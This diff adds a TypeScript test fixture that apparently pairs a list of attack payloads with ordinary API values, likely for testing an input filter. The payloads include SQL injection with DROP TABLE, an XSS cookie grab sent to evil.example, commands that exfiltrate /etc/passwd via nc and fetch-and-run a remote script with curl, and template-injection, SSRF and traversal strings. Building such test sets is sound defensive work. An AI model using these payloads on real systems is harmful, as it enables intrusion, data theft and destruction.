@@ -1,0 +1,40 @@
+/** Attack values written for these tests; canonical text, as the request room hands it over. */
+export const payloads: readonly { readonly family: string; readonly value: string }[] = [
+  { family: 'sqli', value: "1' OR 22=22 -- " },
+  { family: 'sqli', value: "x' UNION SELECT login, secret FROM staff WHERE '1'='1" },
+  { family: 'sqli', value: '7); DROP TABLE invoices; --' },
+  { family: 'sqli', value: '0 AND (SELECT 1 FROM (SELECT SLEEP(5))a)' },
+  { family: 'nosqli', value: '{"$where":"this.total > 0 || true"}' },
+  { family: 'nosqli', value: "'; return this.role == 'admin'; var z='" },
+  { family: 'xss', value: '<script>fetch("//evil.example/?c="+document.cookie)</script>' },
+  { family: 'xss', value: '"><img src=x onerror=alert(17)>' },
+  { family: 'xss', value: '<svg/onload=confirm`3`>' },
+  { family: 'command', value: '; cat /etc/passwd | nc 198.51.100.9 4444' },
+  { family: 'command', value: '$(curl http://198.51.100.9/x.sh|sh)' },
+  { family: 'command', value: '`id`&&whoami' },
+  { family: 'traversal', value: '../../../../etc/shadow' },
+  { family: 'traversal', value: '..\\..\\windows\\win.ini' },
+  { family: 'ssti', value: '{{7*7}}{{config.items()}}' },
+  { family: 'ssti', value: '$'.concat('{T(java.lang.Runtime).getRuntime().exec("id")}') },
+  { family: 'ssrf', value: 'http://169.254.169.254/latest/meta-data/iam/' },
+  { family: 'ldap', value: '*)(uid=*))(|(uid=*' },
+  { family: 'xxe', value: '<!DOCTYPE a [<!ENTITY b SYSTEM "file:///etc/hostname">]>' },
+  { family: 'header', value: 'en\r\nSet-Cookie: session=stolen; Path=/' },
+]
+
+/** Ordinary values of an API, as self shows them. */
+export const ordinary: readonly string[] = [
+  "Anna O'Neil",
+  'price <= 20 & in stock',
+  'https://shop.example/items/42?page=2&sort=name',
+  '{"id":17,"tags":["red","large"],"note":"5 or 6 pieces"}',
+  'Mozilla/5.0 (X11; Linux x86_64) AppleWebKit/537.36 (KHTML, like Gecko)',
+  'text/html,application/xhtml+xml;q=0.9,*/*;q=0.8',
+  '2026-11-23T10:00:00Z',
+  'anna.oneil+shop@mail.example',
+  'Größe 42, Farbe „blau“',
+  'a1b2c3d4-0000-4000-8000-123456789abc',
+  'select a size from the table',
+  '50% off (this week only!)',
+  '/var/reports/2026/summary.pdf',
+]
